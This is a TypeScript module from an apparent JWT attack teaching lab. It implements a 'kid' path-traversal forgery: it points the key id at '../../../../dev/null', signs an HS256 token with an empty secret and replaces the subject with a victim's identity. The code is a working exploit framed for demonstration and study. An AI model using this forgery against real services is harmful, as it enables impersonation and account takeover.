import { hs256Token, patched, readToken } from '@/lib/attack-lab/forge';
import { ok } from '@/lib/oauth-client/result';
import { KID_TRAVERSAL_STEPS } from './kid-traversal.steps';
import { forgeFailed, VICTIM, VICTIM_NAME } from './mallory';
import { tokenForgeryMachine, type Forger } from './token-forgery';

/** The `kid` Mallory sends: enough `../` to climb out of any key folder, then the empty file. */
export const TRAVERSAL_KID = '../../../../dev/null';

/** RFC 8725 §3.10: a `kid` used as a file path names /dev/null, whose contents (nothing) Mallory knows. */
export const forgeKidTraversal: Forger = async ({ step, own }) => {
  const read = readToken(own.tokens.access_token);
  if (!read.ok) return forgeFailed(step, read.message);
  const header = patched(read.value.header, { alg: 'HS256', kid: TRAVERSAL_KID });
  const token = await hs256Token({ header, payload: patched(read.value.payload, { sub: VICTIM }) }, new Uint8Array(0));
  const facts = [
    { label: 'Header kid', value: `${String(read.value.header.kid)} → ${TRAVERSAL_KID}` },
    { label: 'Header alg', value: `${String(read.value.header.alg)} → HS256` },
    { label: 'HMAC secret', value: 'empty (0 bytes): the contents of /dev/null' },
    { label: 'Claim sub', value: `${String(read.value.payload.sub)} → ${VICTIM}` },
  ];
  return {
    step,
    exchanges: [],
    facts,
    result: ok({ token, victim: VICTIM, victimName: VICTIM_NAME, sent: `the HS256 token with kid "${TRAVERSAL_KID}" and an empty key` }),
  };
};

export const kidTraversalMachine = tokenForgeryMachine('kidTraversal', KID_TRAVERSAL_STEPS, forgeKidTraversal);
